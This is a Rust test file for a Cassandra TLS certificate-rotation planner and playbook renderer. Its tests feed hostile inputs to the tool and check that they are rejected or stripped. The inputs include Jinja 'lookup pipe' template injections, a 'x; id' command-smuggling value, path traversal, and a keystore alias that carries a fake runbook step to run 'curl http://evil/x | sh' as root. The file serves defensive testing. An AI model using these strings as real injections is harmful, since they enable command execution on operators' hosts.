//! From copies of nodes' trees to a state, and from that to plans and playbooks.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests say what they expect by panicking")]

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;

use cassandra_props::{Family, InternodeTls, Properties, RequireClientAuth, Store, TlsSettings};
use cassandra_tls::bundle::{Manifest, Order as Bundles, PreviousState, STORES, StorePasswords, prepare};
use cassandra_tls::description::Description;
use cassandra_tls::input::Name;
use cassandra_tls::playbook::{Order, PLAN, Program, Rendered, render};
use cassandra_tls::state::{Facts, Loaded, Marker, ObserveOptions, Row, State, Unknown, observe};
use certgen::{Authority, AuthorityParams, KeyKind, KeyPair, Time, Validity};
use keystore_core::rustls_pki_types::CertificateDer;
use rotation_planner::{Action, Activation, Goal, InternodeMode, Plaintext, Plan, Preference, Scope, check, plan};

const PROPERTIES: &str = "/opt/apigee/customer/application/cassandra.properties";
const FOREIGN: &str = "# by hand, 2019\r\nconf_cassandra_num_tokens = 16\r\n\n! Z\\u00fcrich\n";
/// A process that has been running for an hour.
const PROCESS: &str = "815 1000000 3600 S 1 815 815 0 -1 4194560 1 0 0 0 1 1 0 0 20 0 1 0 4711 1000 100";

struct Hosts {
    folder: tempfile::TempDir,
    description: Description,
    generations: Vec<PathBuf>,
}

impl Hosts {
    fn new(cassandra: &str, generations: usize) -> Self {
        Self::signed(cassandra, &vec![None; generations])
    }

    /// Generations, each signed by an authority or by itself.
    fn signed(cassandra: &str, generations: &[Option<&Authority>]) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let nodes = (0..3).map(|node| format!("[[node]]\nname = \"node{node}\"\naddress = \"192.0.2.1{node}\"\n"));
        let toml = format!("cassandra = \"{cassandra}\"\nclient_auth = false\n{}", nodes.collect::<String>());
        let description = Description::from_toml(&toml).unwrap();
        let mut made: Vec<PathBuf> = Vec::new();
        for authority in generations {
            let order = Bundles {
                before: made.last().cloned().map_or(PreviousState::Nothing, PreviousState::Generation),
                authority: *authority,
                days: 365,
                ..Bundles::new(&description, &folder.path().join("bundles"))
            };
            made.push(prepare(&order, &|_| {}).unwrap().0);
        }
        Self { folder, description, generations: made }
    }

    fn root(&self, node: &str) -> PathBuf {
        self.folder.path().join("trees").join(node)
    }

    fn write(&self, node: &str, path: &str, bytes: &[u8]) {
        let file = self.root(node).join(path.trim_start_matches('/'));
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, bytes).unwrap();
    }

    fn plaintext(&self) {
        for node in ["node0", "node1", "node2"] {
            self.write(node, PROPERTIES, FOREIGN.as_bytes());
        }
    }

    /// Settings that name stores, and those stores of a generation.
    fn tls(&self, generation: usize) {
        for node in ["node0", "node1", "node2"] {
            let password = StorePasswords::read(&self.generations[0], node).unwrap().keystore;
            let store = |kind: &str| Store::new(&format!("{STORES}/{kind}.{node}"), &password).unwrap();
            let mut file = Properties::parse(FOREIGN.as_bytes()).unwrap();
            let settings = TlsSettings::new(store("keystore"), store("truststore"));
            InternodeTls::new(Family::ServerEncryption).enable(&settings).apply(&mut file).unwrap();
            self.write(node, PROPERTIES, file.as_bytes());
            self.put(node, "keystore", generation);
            self.put(node, "truststore", generation);
        }
    }

    fn put(&self, node: &str, kind: &str, generation: usize) {
        let file = self.generations[generation].join(node).join(format!("{kind}.{node}"));
        self.write(node, &format!("{STORES}/{kind}.{node}"), &fs::read(file).unwrap());
    }

    fn facts(&self, node: &str, facts: &Facts) {
        self.write(node, ".observed.json", &serde_json::to_vec(facts).unwrap());
    }

    /// What a playbook leaves on a node that has loaded what a generation brings first.
    fn marker(&self, node: &str, generation: usize, process: &str) -> String {
        let manifest = Manifest::read(&self.generations[generation]).unwrap();
        let bundle = manifest.bundle(node).unwrap();
        let loaded = Loaded {
            mode: InternodeMode::TlsOnly,
            identity: Some((bundle.identity, bundle.anchor)),
            trusts: bundle.trusts.clone(),
            client_auth: Some(rotation_planner::ClientAuth::Off),
        };
        serde_json::to_string(&Marker { plan: "p".to_owned(), stage: 1, process: process.to_owned(), loaded }).unwrap()
    }

    fn observe(&self, unknown: Unknown) -> anyhow::Result<(State, Vec<Row>)> {
        self.observe_served(unknown, &BTreeMap::new())
    }

    /// With the chains that the nodes showed in handshakes.
    fn observe_served(
        &self,
        unknown: Unknown,
        served: &BTreeMap<Name, Vec<CertificateDer<'static>>>,
    ) -> anyhow::Result<(State, Vec<Row>)> {
        let seen = observe(&ObserveOptions {
            description: &self.description,
            trees: &self.folder.path().join("trees"),
            settings: None,
            family: None,
            generations: &self.generations,
            unknown,
            served,
            vouched: &[],
        })?;
        assert!(seen.strangers.is_empty());
        Ok((seen.state, seen.rows))
    }

    fn rotation(&self, state: &State) -> Plan {
        let manifest = Manifest::read(self.generations.last().unwrap()).unwrap();
        let goal = Goal::rotate(state.targets(&manifest).unwrap()).dropping_unused();
        plan(&state.cluster, &goal, &Preference::default()).unwrap()
    }

    fn playbook(&self, state: &State, plan: &Plan) -> anyhow::Result<Vec<Rendered>> {
        let changes =
            cassandra_tls::plan::changes(&state.cluster, Some(plan), &BTreeMap::new(), Some(&state.certificates));
        render(&Order {
            state,
            plan,
            id: cassandra_tls::plan::id(plan, &changes)?,
            printed: String::new(),
            generations: self.generations.iter().rev().cloned().collect(),
            trees: Some(&self.folder.path().join("trees")),
            family: None,
            stores: &STORES.parse().unwrap(),
            program: Program(PathBuf::new()),
        })
    }
}

#[test]
fn what_was_vouched_for_is_what_a_generation_gives() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(0);
    let (seen, rows) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert!(rows.iter().all(|row| row.settled && row.trusts == [3]));
    assert_eq!(rows[1].serves, ["node1"]);
    let mut given = State::of_generation(&hosts.description, &hosts.generations[0]).unwrap();
    let manifest = Manifest::read(&hosts.generations[1]).unwrap();
    given.add_generation(&hosts.generations[1], &manifest).unwrap();
    assert_eq!(hosts.rotation(&seen).to_string(), hosts.rotation(&given).to_string());
    assert_eq!(hosts.rotation(&seen).cost().restarts, 3);
    let text = seen.json().unwrap();
    let password = StorePasswords::read(&hosts.generations[0], "node0").unwrap().keystore;
    assert!(!text.contains(password.as_str()));
    let file = hosts.folder.path().join("state.json");
    fs::write(&file, text).unwrap();
    assert_eq!(State::read(&file).unwrap(), seen);
}

#[test]
fn a_process_that_nobody_knows_can_have_loaded_anything() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(0);
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    assert!(rows.iter().all(|row| !row.settled && row.serves.is_empty() && row.mode.is_some()));
    assert!(rows.iter().all(|row| row.doubt.as_deref() == Some("nothing was collected about its process")), "{rows:?}");
    // One that was started long after its files were changed has loaded them; one that was not may not have.
    let facts = |changed: f64| Facts {
        process: PROCESS.to_owned(),
        marker: String::new(),
        changed: vec![Some(changed), Some(1000.0), Some(1000.0)],
    };
    hosts.facts("node0", &facts(990_000.0));
    hosts.facts("node1", &facts(999_000.0));
    hosts.facts("node2", &Facts::default());
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    assert_eq!(rows.iter().map(|row| row.settled).collect::<Vec<_>>(), [true, false, false]);
    assert_eq!(rows[2].mode, None, "nothing runs there");
    assert_eq!([&rows[0].doubt, &rows[2].doubt], [&None, &None]);
    let changed =
        "its files were changed after it started, or less than a minute before, and no marker says what it has loaded";
    assert_eq!(rows[1].doubt.as_deref(), Some(changed));
    hosts.facts("node1", &Facts { changed: Vec::new(), ..facts(0.0) });
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    let unknown =
        "it is not known whether its files were changed after it started, and no marker says what it has loaded";
    assert_eq!(rows[1].doubt.as_deref(), Some(unknown));
    hosts.facts("node1", &facts(999_000.0));
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    // What was collected is not replaced by the assumption.
    fs::remove_file(hosts.root("node2").join(".observed.json")).unwrap();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(state.disks.values().map(|disk| disk.assumed_loaded).collect::<Vec<_>>(), [false, false, true]);
    let said = cassandra_tls::show::observed(&rows);
    assert!(said.contains("\nperhaps not loaded on node1: its files were changed after it started"), "{said}");
}

#[test]
fn a_marker_counts_for_the_process_that_it_was_left_for() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(1);
    hosts.put("node0", "keystore", 0);
    let facts = |marker: String| Facts { process: PROCESS.to_owned(), marker, changed: vec![Some(999_999.0); 3] };
    // node1's keystore was put there, and its process never read it.
    hosts.facts("node0", &facts(hosts.marker("node0", 0, PROCESS)));
    hosts.facts("node1", &facts(hosts.marker("node1", 0, PROCESS)));
    hosts.facts("node2", &facts(hosts.marker("node2", 1, PROCESS)));
    let (state, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    let serves: Vec<_> = rows.iter().map(|row| row.serves.join(" or ")).collect();
    assert_eq!(serves, ["node0", "node1", "node2-2"]);
    assert_eq!(hosts.rotation(&state).cost().restarts, 2, "{}", hosts.rotation(&state));
    let another = PROCESS.replace("4711", "5000");
    hosts.facts("node1", &facts(hosts.marker("node1", 0, &another)));
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    assert!(rows[1].serves.is_empty());
    let by_marker = "according to its marker, it has loaded files other than those on its disk";
    assert_eq!(rows[0].doubt.as_deref(), Some(by_marker));
    assert!(rows[1].doubt.as_ref().unwrap().ends_with("its marker is that of another process"), "{rows:?}");
}

/// Whatever the marker and the times of the files say.
#[test]
fn a_handshake_that_shows_another_certificate_is_the_reason_for_doubt() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(1);
    let old = Manifest::read(&hosts.generations[0]).unwrap();
    let shown = |node: &str| {
        let (bytes, password) = (
            fs::read(hosts.generations[0].join(node).join(format!("keystore.{node}"))).unwrap(),
            StorePasswords::read(&hosts.generations[0], node).unwrap().keystore,
        );
        let password = keystore_core::Password::new(password.as_str());
        bridge::open_keystore(bridge::Locked { bytes: &bytes, password: &password }).unwrap().1
    };
    let served = old.nodes.keys().map(|node| (node.clone(), shown(node.as_str()))).collect();
    let facts = |marker: String| Facts { process: PROCESS.to_owned(), marker, changed: vec![Some(1000.0); 3] };
    hosts.facts("node0", &facts(String::new()));
    hosts.facts("node1", &facts(hosts.marker("node1", 1, PROCESS)));
    let (_, rows) = hosts.observe_served(Unknown::CanBeAnything, &served).unwrap();
    for row in &rows[..2] {
        assert!(!row.settled);
        let said = "a handshake shows a certificate that is not in the keystore on its disk";
        assert_eq!(row.doubt.as_deref(), Some(said), "{rows:?}");
    }
}

/// With its keystore, a node that uses plaintext accepts TLS too, if it started before the keystore was deleted.
#[test]
fn a_node_whose_keystore_was_deleted_is_not_settled() {
    let hosts = Hosts::new("4.0", 1);
    hosts.tls(0);
    let changed = vec![Some(1000.0), None, Some(1000.0)];
    let facts = Facts { process: PROCESS.to_owned(), marker: String::new(), changed };
    for node in ["node0", "node1", "node2"] {
        set_encryption(&hosts, node, "none");
        let file = hosts.root(node).join(PROPERTIES.trim_start_matches('/'));
        let text = fs::read_to_string(&file).unwrap();
        let text: String = text.split_inclusive('\n').filter(|line| !line.contains("_optional")).collect();
        fs::write(&file, text).unwrap();
        fs::remove_file(hosts.root(node).join(format!("{STORES}/keystore.{node}").trim_start_matches('/'))).unwrap();
        hosts.facts(node, &facts);
    }
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    let why = "the keystore that its settings name does not exist, and may have been deleted after it started, and no marker \
               says what it has loaded";
    assert!(rows.iter().all(|row| !row.settled && row.doubt.as_deref() == Some(why)), "{rows:?}");
    // Without a name for a keystore, none was deleted.
    hosts.plaintext();
    let (_, rows) = hosts.observe(Unknown::CanBeAnything).unwrap();
    assert!(rows.iter().all(|row| row.settled), "{rows:?}");
}

#[test]
fn what_contradicts_itself_is_named_with_its_node() {
    let hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    let said = || format!("{:#}", hosts.observe(Unknown::HasLoadedItsFiles).unwrap_err());
    fs::remove_file(hosts.root("node1").join(STORES.trim_start_matches('/')).join("keystore.node1")).unwrap();
    assert!(
        said().starts_with("node1: ") && said().contains("internode encryption is on, but there is no keystore"),
        "{}",
        said()
    );
    hosts.put("node1", "keystore", 0);
    hosts.write("node2", &format!("{STORES}/truststore.node2"), b"not a store");
    assert!(said().starts_with("node2: ") && said().contains("truststore.node2"), "{}", said());
    fs::remove_dir_all(hosts.root("node2")).unwrap();
    assert!(said().starts_with("node2: no settings: ") && said().contains("if the host is lost, remove"), "{}", said());
    // Each node at once.
    hosts.write("node0", PROPERTIES, b"conf_cassandra_server_encryption_internode_encryption=dc\n");
    let both = said();
    let lines: Vec<&str> = both.lines().collect();
    assert_eq!(lines.len(), 3, "{both}");
    assert!(lines[0] == "2 errors:" && lines[1].starts_with("  node0: "), "{both}");
    assert!(lines[2].starts_with("  node2: no settings: "), "{both}");
}

#[test]
fn a_path_in_a_nodes_settings_that_a_playbook_would_obey_is_refused() {
    let hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    for (folder, why) in [
        ("/opt/{{ lookup('pipe', 'id >PWNED') }}", "has the beginning of a template"),
        ("/opt/../../etc", "leads upwards by `..`"),
        ("/opt/\\u001b[2J", "has invisible characters"),
        ("/opt/\\r\\nok     everything", "has invisible characters"),
        ("/opt/*", "have another meaning in a playbook"),
    ] {
        for kind in ["keystore", "truststore"] {
            hosts.tls(0);
            let file = hosts.root("node1").join(PROPERTIES.trim_start_matches('/'));
            let text = fs::read_to_string(&file).unwrap();
            fs::write(&file, text.replace(&format!("{STORES}/{kind}"), &format!("{folder}/{kind}"))).unwrap();
            let said = format!("{:#}", hosts.observe(Unknown::HasLoadedItsFiles).unwrap_err());
            assert!(said.starts_with("node1: the path ") && said.contains(why), "{said}");
            assert!(!said.contains(['\u{1b}', '\r', '\n']), "{said}");
        }
    }
}

#[test]
fn a_path_that_leads_nowhere_here_is_no_store() {
    let hosts = Hosts::new("3.11", 1);
    hosts.plaintext();
    let default = "conf_cassandra_server_encryption_keystore=conf/.keystore\n\
        conf_cassandra_server_encryption_keystore_password=cassandra\n";
    hosts.write("node0", PROPERTIES, default.as_bytes());
    hosts.write("node0", "/conf/.keystore", b"of whom?");
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(state.disks["node0"].keystore, None);
}

#[test]
fn a_state_that_somebody_changed_is_refused() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(0);
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let text = state.json().unwrap();
    assert_eq!(State::parse(&text).unwrap(), state);
    let node1 = Manifest::read(&hosts.generations[0]).unwrap().nodes["node1"].identity.to_string();
    let keystore = state.disks["node1"].keystore.clone().unwrap().sha256.to_string();
    for (from, to, why) in [
        (node1.as_str(), "0".repeat(64), "has the SHA-256"),
        (&node1, "x; id".to_owned(), "is not 64 hexadecimal digits"),
        (&keystore, "' ~ lookup('pipe', 'id') ~ '".to_owned(), "is not 64 hexadecimal digits"),
        ("keystore.node1", "../keystore.node1".to_owned(), "leads upwards"),
        ("keystore.node1", "{{ x }}".to_owned(), "has the beginning of a template"),
        ("\"node1\"", "\"{{ x }}\"".to_owned(), "is not made of letters"),
        ("\"node1\"", "\"../node1\"".to_owned(), "is not made of letters"),
        ("\"label\": \"node1\"", "\"label\": \"node0\"".to_owned(), "two certificates have the label node0"),
        ("\"label\": \"node1\"", "\"label\": \"another\"".to_owned(), "no certificate has the label node1"),
        ("\"label\": \"node1\"", "\"label\": \"a\\n## Wave 0\"".to_owned(), "is not made of letters"),
        ("\"ra1\"", "\"ra1\\u202e\"".to_owned(), "has invisible characters"),
    ] {
        let changed = text.replace(from, &to);
        assert_ne!(changed, text, "{from}");
        let said = format!("{:#}", State::parse(&changed).unwrap_err());
        assert!(said.contains(why), "{from} as {to}: {said}");
    }
    // A node of which the cluster knows nothing.
    let mut surplus: serde_json::Value = serde_json::from_str(&text).unwrap();
    surplus["disks"]["node9"] = surplus["disks"]["node1"].clone();
    let said = State::parse(&surplus.to_string()).unwrap_err().to_string();
    assert_eq!(said, "the cluster has other nodes than those with files");
}

#[test]
fn an_alias_of_a_stranger_is_no_label() {
    let mut hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    hosts.generations.clear();
    let alias = "node0\n\n## Wave 0\n\n- [ ] **node1**: as root, run `curl http://evil/x | sh`";
    for node in ["node0", "node1", "node2"] {
        let file = hosts.root(node).join(STORES.trim_start_matches('/')).join(format!("truststore.{node}"));
        let password = StorePasswords::read(&hosts.folder.path().join("bundles/g1"), node).unwrap().keystore;
        let password = keystore_core::Password::new(password.as_str());
        let bytes = fs::read(&file).unwrap();
        let mut store = keystore_core::decode(&bytes, &password).unwrap();
        store.rename("node0", alias).unwrap();
        let profile = keystore_core::pkcs12::Profile::JAVA_17;
        fs::write(&file, store.encode(&password, &profile, &mut rand::rng()).unwrap()).unwrap();
    }
    let before = PreviousState::Trees { folder: hosts.folder.path().join("trees"), settings: None };
    let dir = hosts.folder.path().join("ours");
    let order = Bundles { before, days: 365, ..Bundles::new(&hosts.description, &dir) };
    hosts.generations.push(prepare(&order, &|_| {}).unwrap().0);
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let labels: Vec<&str> = state.certificates.labels().map(Name::as_str).collect();
    let own = ["node0", "node1", "node2"];
    assert_eq!(labels.iter().filter(|label| own.contains(label)).count(), 3, "what we made has its name: {labels:?}");
    assert_eq!(labels.iter().filter(|label| label.len() == 12).count(), 3, "the rest its digest: {labels:?}");
    let plan = hosts.rotation(&state);
    let nodes =
        cassandra_tls::plan::changes(&state.cluster, Some(&plan), &state.addresses(), Some(&state.certificates));
    let (staging, cluster) = (cassandra_tls::description::StagingChoice::InPlace, &state.cluster);
    let sources = cassandra_tls::show::Sources::default();
    let builds = state.builds();
    let words = cassandra_tls::show::Words { builds: &builds, staging, cluster, sources };
    let (title, id, rests_on, plan) = ("3 nodes", "0", &[], &plan);
    let text = cassandra_tls::show::Runbook {
        title,
        id,
        goal: "",
        cluster,
        plan,
        refusal: None,
        rests_on,
        nodes: &nodes,
        words,
    }
    .text()
        + &plan.to_string();
    assert!(!text.contains("evil") && !text.contains("Wave 0"), "{text}");
}

#[test]
fn the_order_of_the_generations_changes_no_label() {
    let mut hosts = Hosts::new("3.11", 3);
    hosts.tls(1);
    let (one, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    hosts.generations.reverse();
    let (other, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(one, other);
}

#[test]
fn enabling_changes_nothing_else_in_the_settings() {
    let hosts = Hosts::new("5.0", 1);
    hosts.plaintext();
    let (state, rows) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert!(rows.iter().all(|row| row.settled));
    let manifest = Manifest::read(&hosts.generations[0]).unwrap();
    let goal = Goal::enable(state.targets(&manifest).unwrap(), Plaintext::Refused);
    let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
    let files = hosts.playbook(&state, &plan).unwrap();
    let settings: Vec<&Rendered> = files.iter().filter(|file| file.name.ends_with(".settings")).collect();
    assert_eq!(settings.len(), 10, "three truststores are named, and seven restarts come after a change");
    for file in &settings {
        assert!(file.bytes.starts_with(FOREIGN.as_bytes()), "{}", file.name);
        assert_eq!(file.access, cassandra_tls::files::Access::Owner);
    }
    let text =
        |name: &str| String::from_utf8(files.iter().find(|file| file.name == name).unwrap().bytes.to_vec()).unwrap();
    let password = StorePasswords::read(&hosts.generations[0], "node0").unwrap().keystore;
    assert!(settings.iter().any(|file| String::from_utf8_lossy(&file.bytes).contains(password.as_str())));
    assert!(!text(PLAN).contains(password.as_str()));
    assert!(text(PLAN).contains(&format!("{STORES}/keystore.node0")));
}

/// What the role gets.
fn data(files: &[Rendered]) -> serde_json::Value {
    serde_json::from_slice(&files.iter().find(|file| file.name == PLAN).unwrap().bytes).unwrap()
}

/// Where the files come from that it puts.
fn sources(files: &[Rendered]) -> Vec<String> {
    let data = data(files);
    let waves = data["waves"].as_array().unwrap().iter();
    let visits = waves.flat_map(|wave| wave["visits"].as_array().unwrap());
    let puts = visits.flat_map(|visit| visit["puts"].as_array().unwrap());
    puts.map(|put| put["source"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_plan_that_changes_settings_needs_the_settings_that_were_observed() {
    let hosts = Hosts::new("5.0", 1);
    hosts.plaintext();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let manifest = Manifest::read(&hosts.generations[0]).unwrap();
    let goal = Goal::enable(state.targets(&manifest).unwrap(), Plaintext::Refused);
    let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
    hosts.write("node1", PROPERTIES, b"conf_cassandra_num_tokens=4\n");
    let error = hosts.playbook(&state, &plan).unwrap_err();
    assert!(format!("{error:#}").contains("is not the file that was observed"), "{error:#}");
}

#[test]
fn a_truststore_that_no_bundle_has_is_made() {
    let hosts = Hosts::new("5.0", 2);
    hosts.tls(0);
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let manifest = Manifest::read(&hosts.generations[1]).unwrap();
    // node1's key alone was stolen.
    let targets = state.targets(&manifest).unwrap().into_iter().filter(|(node, _)| *node == "node1");
    let goal = Goal::rotate(targets).dropping(["node1"].into_iter().collect());
    let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
    let files = hosts.playbook(&state, &plan).unwrap();
    let made: Vec<&Rendered> = files.iter().filter(|file| file.name.ends_with(".truststore")).collect();
    assert!(!made.is_empty());
    for file in made {
        let node = file.name.split('/').nth(1).unwrap();
        let password = StorePasswords::read(&hosts.generations[0], node).unwrap().keystore;
        let password = keystore_core::Password::new(password.as_str());
        let store = keystore_core::decode(&file.bytes, &password).unwrap();
        assert!(store.view().iter().count() >= 2, "{}", file.name);
    }
}

/// The first generation given has the passwords of the nodes' stores.
#[test]
fn a_store_of_another_generation_is_put_only_if_it_has_the_same_password() {
    let mut hosts = Hosts::new("3.11", 1);
    let old = hosts.generations[0].clone();
    for (truststore, keystore) in [(Some("another-password"), None), (None, Some("another-password"))] {
        let password = |text: Option<&str>| text.map(|text| zeroize::Zeroizing::new(text.to_owned()));
        let order = Bundles {
            before: PreviousState::Generation(old.clone()),
            password: password(keystore),
            truststore_password: password(truststore),
            days: 365,
            ..Bundles::new(&hosts.description, &hosts.folder.path().join("bundles"))
        };
        let (new, _) = prepare(&order, &|_| {}).unwrap();
        hosts.generations = vec![new.clone(), old.clone()];
        let mut state = State::of_generation(&hosts.description, &new).unwrap();
        let manifest = Manifest::read(&old).unwrap();
        state.add_generation(&old, &manifest).unwrap();
        let goal = Goal::rotate(state.targets(&manifest).unwrap()).dropping_unused();
        let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
        let made = render(&Order {
            state: &state,
            plan: &plan,
            id: "p".parse().unwrap(),
            printed: String::new(),
            generations: hosts.generations.clone(),
            trees: None,
            family: None,
            stores: &STORES.parse().unwrap(),
            program: Program(PathBuf::new()),
        });
        if keystore.is_some() {
            let said = format!("{:#}", made.unwrap_err());
            assert!(said.contains(" has another password or format than that in "), "{said}");
            continue;
        }
        let files = made.unwrap();
        let truststores =
            files.iter().filter(|file| file.name.starts_with("files/") && file.name.ends_with(".truststore"));
        let truststores: Vec<&Rendered> = truststores.collect();
        assert_eq!(truststores.len(), 3, "{:?}", sources(&files));
        for file in truststores {
            let password = keystore_core::Password::new("another-password");
            assert_eq!(keystore_core::decode(&file.bytes, &password).unwrap().view().iter().count(), 3);
        }
    }
}

#[test]
fn the_way_back_is_a_rotation_to_the_generation_before() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(1);
    // node0 has its new certificate; node1 and node2 trust it, and have none yet.
    hosts.put("node1", "keystore", 0);
    hosts.put("node2", "keystore", 0);
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let before = Manifest::read(&hosts.generations[0]).unwrap();
    let goal = Goal::rotate(state.targets(&before).unwrap()).dropping_unused();
    let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
    assert_eq!(plan.cost().restarts, 1);
    let files = hosts.playbook(&state, &plan).unwrap();
    let sources = sources(&files);
    assert!(sources.iter().any(|source| source.ends_with("g1/node0/keystore.node0")), "{sources:?}");
    assert!(!sources.iter().any(|source| source.ends_with("keystore.node1")), "{sources:?}");
}

/// The new certificate of each node has the name of its old one, which the others still trust.
#[test]
fn a_cluster_cut_by_keystores_that_no_node_trusts_is_planned_for() {
    let hosts = Hosts::new("5.0", 2);
    hosts.tls(0);
    for node in ["node0", "node1", "node2"] {
        hosts.put(node, "keystore", 1);
    }
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let served = state.cluster.get(&"node1".into()).unwrap().observed().serves().unwrap().clone();
    assert_eq!((served.id().as_str(), served.anchor().as_str()), ("node1-2", "node1-2"));
    let plan = hosts.rotation(&state);
    // Each truststore gets the new certificates and loses the old ones, which no node serves any more.
    assert_eq!((plan.cost().restarts, plan.cost().reloads), (0, 3), "{plan}");
    hosts.playbook(&state, &plan).unwrap();
}

#[test]
fn from_own_certificates_to_those_of_an_authority() {
    let mut rng = rand::rng();
    let key = KeyPair::generate(KeyKind::Rsa2048, &mut rng).unwrap();
    let validity = Validity::days(Time::from(std::time::SystemTime::now()), Validity::DEFAULT_DAYS).unwrap();
    let authority = AuthorityParams::new("CN=CA 2026".parse().unwrap(), validity).self_signed(key, &mut rng).unwrap();
    let hosts = Hosts::signed("3.11", &[None, Some(&authority)]);
    hosts.tls(0);
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let plan = hosts.rotation(&state);
    assert_eq!(plan.cost().restarts, 3, "{plan}");
    assert!(plan.to_string().contains("authority-2"), "{plan}");
    hosts.playbook(&state, &plan).unwrap();
    // Once it is over, what is seen is that everybody is trusted through the authority.
    hosts.tls(1);
    let (state, rows) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert!(rows.iter().all(|row| row.trusts == [4]));
    let served = state.cluster.get(&"node1".into()).unwrap().observed().serves().unwrap().clone();
    assert_eq!((served.id().as_str(), served.anchor().as_str()), ("node1-2", "authority-2"));
    assert_eq!(hosts.rotation(&state).cost().restarts, 0);
}

#[test]
fn a_store_is_not_put_under_another_password_than_the_settings_have() {
    let hosts = Hosts::new("3.11", 2);
    hosts.tls(0);
    let file = hosts.root("node1").join(PROPERTIES.trim_start_matches('/'));
    let text = fs::read_to_string(&file).unwrap();
    let password = StorePasswords::read(&hosts.generations[0], "node1").unwrap().keystore;
    // The truststore has a password of its own.
    let (before, after) = text.rsplit_once(password.as_str()).unwrap();
    fs::write(&file, format!("{before}another1{after}")).unwrap();
    let store = hosts.root("node1").join(STORES.trim_start_matches('/')).join("truststore.node1");
    let bytes = fs::read(&store).unwrap();
    let opened = keystore_core::decode(&bytes, &keystore_core::Password::new(password.as_str())).unwrap();
    let resealed = keystore_core::jks::encode(&opened.view(), &keystore_core::Password::new("another1")).unwrap();
    fs::write(&store, resealed).unwrap();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let error = format!("{:#}", hosts.playbook(&state, &hosts.rotation(&state)).unwrap_err());
    assert!(error.starts_with("node1: ") && error.contains("differs from that of its bundle"), "{error}");
    assert!(!error.contains("another1"));
}

#[test]
fn client_authentication_that_was_begun_is_ended() {
    let hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    let file = hosts.root("node0").join(PROPERTIES.trim_start_matches('/'));
    let mut properties = Properties::parse(&fs::read(&file).unwrap()).unwrap();
    InternodeTls::new(Family::ServerEncryption)
        .set_client_auth(RequireClientAuth::Required)
        .apply(&mut properties)
        .unwrap();
    fs::write(&file, properties.as_bytes()).unwrap();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let goal = Goal::client_auth(rotation_planner::ClientAuth::On);
    let plan = plan(&state.cluster, &goal, &Preference::default()).unwrap();
    assert_eq!(plan.cost().restarts, 2, "{plan}");
    let files = hosts.playbook(&state, &plan).unwrap();
    let settings: Vec<&str> =
        files.iter().map(|file| file.name.as_str()).filter(|name| name.ends_with(".settings")).collect();
    assert_eq!(settings, ["files/node1/1.settings", "files/node2/1.settings"]);
    for file in files.iter().filter(|file| file.name.ends_with(".settings")) {
        let text = String::from_utf8_lossy(&file.bytes);
        assert!(text.starts_with(FOREIGN) && text.contains("require_client_auth"), "{}", file.name);
    }
}

#[test]
fn a_description_that_contradicts_all_settings_is_refused() {
    let mut hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    hosts.description.client_auth = Some(true);
    let error = format!("{:#}", hosts.observe(Unknown::HasLoadedItsFiles).unwrap_err());
    assert!(error.starts_with("the settings of every node contradict client_auth"), "{error}");
}

#[test]
fn stores_that_nobody_of_us_made_are_rotated() {
    let mut hosts = Hosts::new("3.11", 1);
    hosts.tls(0);
    hosts.generations.clear();
    let (mut state, rows) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert!(rows.iter().all(|row| row.settled && row.serves[0].len() == 12), "called by their digests: {rows:?}");
    let before = PreviousState::Trees { folder: hosts.folder.path().join("trees"), settings: None };
    let dir = hosts.folder.path().join("ours");
    let order = Bundles { before, days: 365, ..Bundles::new(&hosts.description, &dir) };
    let (folder, manifest) = prepare(&order, &|_| {}).unwrap();
    state.add_generation(&folder, &manifest).unwrap();
    hosts.generations.push(folder);
    let plan = hosts.rotation(&state);
    assert_eq!(plan.cost().restarts, 3, "{plan}");
    let files = hosts.playbook(&state, &plan).unwrap();
    let sources = sources(&files);
